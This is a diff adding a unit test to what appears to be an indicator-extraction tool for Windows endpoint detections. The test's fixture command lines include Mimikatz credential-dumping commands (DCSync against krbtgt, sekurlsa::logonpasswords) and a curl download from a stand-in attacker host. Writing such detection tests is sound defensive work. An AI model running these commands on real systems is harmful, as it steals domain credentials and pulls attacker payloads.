@@ -149,6 +149,17 @@ describe('indicators from Windows and endpoint events', () => {
     expect(buildIndicators([s], lookup, catalog).find((i) => i.type === 'sha256')?.role).toBe('malware');
   });
 
+  it('never makes the organisation\'s own AD domain named in a command line a payload host, but keeps a foreign one', () => {
+    const run = (commandLine: string) => {
+      const e = event(0, '2026-08-14T22:03:40Z', { action: 'process_create', logsource: { product: 'windows', category: 'process_creation' }, entities: { process: 'C:\\Users\\Public\\m.exe', commandLine, user: 'CORP\\svc_backup', host: 'WS-117.corp.example' } });
+      const lookup = lookupOf([e]);
+      const s = makeSignal('detection', 's', rule('high', ['attack.credential-access', 'attack.t1003.006']), [0], lookup, catalog);
+      return buildIndicators([s], lookup, catalog).filter((i) => i.type === 'domain').map((i) => `${i.value}:${i.role}`);
+    };
+    expect(run('m.exe "lsadump::dcsync /domain:corp.example /user:krbtgt" exit')).toEqual([]);
+    expect(run('m.exe sekurlsa::logonpasswords & curl -o x http://files.evil-drop.net/t')).toEqual(expect.arrayContaining([expect.stringMatching(/^files\.evil-drop\.net:|^evil-drop\.net:/)]));
+  });
+
   it('never makes an OS binary the attacker\'s foothold', () => {
     const net = event(0, '2026-02-09T23:14:00Z', { action: 'process_create', entities: { process: 'C:\\Windows\\System32\\net.exe', user: 'backup', host: 'RDS-01' } });
     const lookup = lookupOf([net]);
